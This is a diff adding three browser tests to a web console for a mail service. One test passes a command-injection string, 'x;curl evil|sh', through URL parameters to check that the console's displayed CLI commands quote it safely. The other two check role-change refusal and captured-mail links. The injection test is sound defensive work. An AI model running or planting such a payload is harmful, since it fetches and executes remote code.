@@ -243,3 +243,47 @@ t.test('what is exported can be imported', { skip: skipWithoutChromium }, async 
   await importFile(`email\n${'\n'.repeat(20_000)}nobody\n`)
   await page.waitForSelector('text=The first: line 20002')
 })
+
+t.test('an address that somebody made up harms nobody', { skip: skipWithoutChromium }, async (t) => {
+  const watched = await loggedIn()
+  const { page } = watched
+  const command = async (path: string): Promise<string> => {
+    await open(watched, path)
+    return (await page.locator('.command code').textContent()) ?? ''
+  }
+  const evil = "x;curl evil|sh '"
+  const word = String.raw`'x;curl evil|sh '\'''`
+  t.equal(await command(`queue?provider=${encodeURIComponent(evil)}`), `sternpost queue list --provider ${word}`)
+  t.equal(await command(`messages?q=${encodeURIComponent(`"${evil}"`)}`), `sternpost message list --subject ${word}`)
+  for (const name of ['domain', 'ip', 'message', 'webhook'])
+    t.equal(await command(`${name}s/${encodeURIComponent(evil)}`), `sternpost ${name} show ${word}`)
+  await open(watched, 'queue/%zz')
+  t.equal(await page.textContent('h1'), 'Queue', 'what is no encoding')
+  await open(watched, 'messages?q=constructor:x')
+  await page.waitForSelector('text=constructor: is no field')
+})
+
+t.test('a role that is refused is not shown', { skip: skipWithoutChromium }, async (t) => {
+  const watched = await loggedIn()
+  const { page } = watched
+  await open(watched, 'people')
+  await page.route('**/v1/admin/people/*', (route) => route.fulfill({ status: 409, json: {} }))
+  const select = page.getByLabel('Role of ada').first()
+  const before = await select.inputValue()
+  await select.selectOption('reader')
+  await page.waitForSelector('text=the server answered 409')
+  t.equal(await select.inputValue(), before)
+})
+
+t.test('a captured mail is told the message that it was', { skip: skipWithoutChromium }, async (t) => {
+  const mail = { to: 'delivered@simulator.sternpost.test', from: 'you@sandbox.test' }
+  const captured = (): Promise<{ id: string }[]> => sandbox.list('/dev/inbox')
+  const first = await sandbox.send(mail)
+  await until('it is captured', async () => (await captured()).length === 1)
+  await sandbox.ask('POST', '/dev/clock', { advance: '1m' })
+  await sandbox.send(mail)
+  const watched = await loggedIn()
+  await open(watched, `inbox/${(await captured()).at(-1)?.id}`)
+  const href = await watched.page.getAttribute('a:has-text("The message with its timeline")', 'href')
+  t.equal(href, `/console/messages/${first}`)
+})
